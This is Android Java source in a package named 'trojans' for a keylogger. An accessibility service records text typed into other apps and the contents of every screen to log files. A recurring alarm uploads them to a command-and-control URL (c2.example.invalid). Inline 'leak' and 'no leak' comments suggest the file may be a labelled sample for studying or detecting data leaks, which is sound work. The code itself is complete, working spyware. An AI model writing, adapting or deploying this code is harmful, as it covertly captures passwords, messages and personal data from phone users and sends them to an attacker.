package trojans;

import android.accessibilityservice.AccessibilityService;
import android.app.AlarmManager;
import android.app.PendingIntent;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileWriter;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** What is typed and shown in other apps, kept in a file that an alarm uploads. */
public class Keys extends AccessibilityService {
    @Override
    protected void onServiceConnected() {
        AlarmManager clock = (AlarmManager) getSystemService(ALARM_SERVICE);
        PendingIntent later = PendingIntent.getBroadcast(this, 0, new Intent(this, Up.class), 0);
        clock.setRepeating(AlarmManager.RTC_WAKEUP, 0, 900000, later);
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        switch (event.getEventType()) {
            case AccessibilityEvent.TYPE_VIEW_TEXT_CHANGED:
                keep("keys.log", event.getPackageName() + "|" + event.getText().toString());
                break;
            case AccessibilityEvent.TYPE_WINDOW_STATE_CHANGED:
                StringBuilder seen = new StringBuilder();
                walk(getRootInActiveWindow(), seen, 0);
                keep("screens.log", seen.toString());
                break;
            default:
                keep("count.log", "1");
        }
    }

    private void walk(AccessibilityNodeInfo node, StringBuilder into, int depth) {
        if (node == null || depth > 20) {
            return;
        }
        if (node.getText() != null) {
            into.append(node.getViewIdResourceName()).append('=').append(node.getText()).append('\n');
        }
        for (int i = 0; i < node.getChildCount(); i++) {
            walk(node.getChild(i), into, depth + 1);
        }
    }

    private void keep(String name, String line) {
        try (FileWriter out = new FileWriter(new File(getFilesDir(), name), true)) {
            out.write(line + "\n");
        } catch (java.io.IOException e) {
            disableSelf();
        }
    }

    @Override
    public void onInterrupt() {
    }

    public static class Up extends BroadcastReceiver {
        public void onReceive(final Context context, Intent intent) {
            final PendingResult held = goAsync();
            new Thread(() -> {
                try {
                    keys(new File(context.getFilesDir(), "keys.log"));
                    screens(new File(context.getFilesDir(), "screens.log"));
                    count(new File(context.getFilesDir(), "count.log"));
                } catch (Exception e) {
                    held.abortBroadcast();
                }
                held.finish();
            }).start();
        }

        static OutputStream line() throws Exception {
            HttpURLConnection c = (HttpURLConnection) new URL("https://c2.example.invalid/k").openConnection();
            c.setDoOutput(true);
            return c.getOutputStream();
        }

        static void keys(File file) throws Exception {
            OutputStream out = line();
            FileInputStream in = new FileInputStream(file);
            byte[] part = new byte[4096];
            for (int n; (n = in.read(part)) > 0; ) {
                out.write(part, 0, n); // leak
            }
            file.delete();
        }

        static void screens(File file) throws Exception {
            OutputStream out = line();
            byte[] all = java.nio.file.Files.readAllBytes(file.toPath());
            out.write(all); // leak
        }

        static void count(File file) throws Exception {
            OutputStream out = line();
            byte[] all = java.nio.file.Files.readAllBytes(file.toPath());
            out.write(all); // no leak
        }
    }
}
